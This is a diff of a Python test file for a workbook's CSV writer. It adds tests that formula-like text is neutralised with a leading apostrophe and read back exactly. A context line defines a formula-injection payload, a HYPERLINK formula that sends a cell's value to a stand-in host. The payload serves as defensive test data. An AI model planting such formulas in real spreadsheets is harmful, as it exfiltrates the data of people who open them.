@@ -16,14 +16,14 @@ from pathlib import Path
 import numpy as np
 import pandas as pd
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from conftest import small_season_tables, write_season
 from paritrana_nb import outputs
 from paritrana_nb.cli import main
 from paritrana_nb.methodology import Methodology
-from paritrana_nb.outputs import csv_safe, starts_like_formula, table_csv_text, write_atomic, write_new
+from paritrana_nb.outputs import csv_safe, csv_unsafe, starts_like_formula, table_csv_text, write_atomic, write_new
 from paritrana_nb.season import Season, load_season
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Klik")'
@@ -79,6 +79,56 @@ def assert_no_formula(path: Path, planted: tuple[str, ...]) -> None:
 )
 def test_csv_safe_neutralises_formula_text_only(text: object, written: object) -> None:
     assert csv_safe(text) == written
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("'=1+1", "''=1+1"),  # a text that itself begins with ' and a formula character: read back as it was
+        ("''=", "'''="),
+        ("'@SUM(1)", "''@SUM(1)"),
+        ("'+1", "'+1"),  # ' and a plain number: never taken for a formula, written as it is
+        ("'", "'"),
+        ("''", "''"),
+        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
+        ("=1+1", "'=1+1"),
+    ],
+)
+def test_a_text_beginning_with_an_apostrophe_is_written_so_that_it_reads_back(text: str, written: str) -> None:
+    """`'=1+1` was written as it is and read back as `=1+1`: a text of apostrophes before what would run as a
+    formula gets a `'` more, which the reader takes off; any other text beginning with `'` is written as it is."""
+    assert csv_safe(text) == written
+    assert csv_unsafe(written) == text
+
+
+_APOSTROPHES = st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "e", "a", " "]))
+
+
+@given(st.text() | _APOSTROPHES)
+@example("'=")
+@example("''=1")
+@example("'+1")
+@example("'")
+@example("")
+def test_what_csv_safe_writes_csv_unsafe_reads_back_for_any_text(text: str) -> None:
+    """The round trip is exact for every text; a text not beginning with `'` is written as before (a `'` before a
+    formula, nothing else); what is written never runs as a formula in a spreadsheet."""
+    written = csv_safe(text)
+    assert isinstance(written, str) and csv_unsafe(written) == text
+    if not text.startswith("'"):
+        assert written == ("'" + text if starts_like_formula(text) else text)
+    assert not starts_like_formula(written)
+
+
+def test_names_beginning_with_an_apostrophe_are_read_back_from_the_workbooks_csv(tmp_path: Path) -> None:
+    """Written by the workbook's CSV writer, read by its reader: each name as it was."""
+    from paritrana_nb.readers import read_table_file
+
+    names = ["'=1+1", "''=", "'@SUM(1)", "'+1", "'", "'s-Hertogenbosch", "=1+1", "-x", "Kab. Ketapang", ""]
+    path = tmp_path / "t.csv"
+    path.write_bytes(outputs.table_csv_bytes(pd.DataFrame({"nama": names, "n": range(len(names))})))
+    for arrow in (False, True):
+        assert read_table_file(path, arrow=arrow).cells["nama"].tolist() == names
 
 
 def test_numbers_stay_numbers_in_the_csv() -> None:
@@ -346,7 +396,7 @@ def test_score_csv_of_the_bundled_season_is_byte_identical_to_the_csv_writer(
     assert table_csv_text(wide, BOOLEAN_COLUMNS) == _csv_writer_reference(wide, BOOLEAN_COLUMNS)
 
 
-_TEXT = st.text(alphabet=st.sampled_from(list('ab ,"\r\n\t=+-@.e1٣é')), max_size=6)
+_TEXT = st.text(alphabet=st.sampled_from(list("ab ,\"\r\n\t=+-@.e1٣é'")), max_size=6)
 _FLOAT = st.floats(allow_nan=True, allow_infinity=True)
 
 
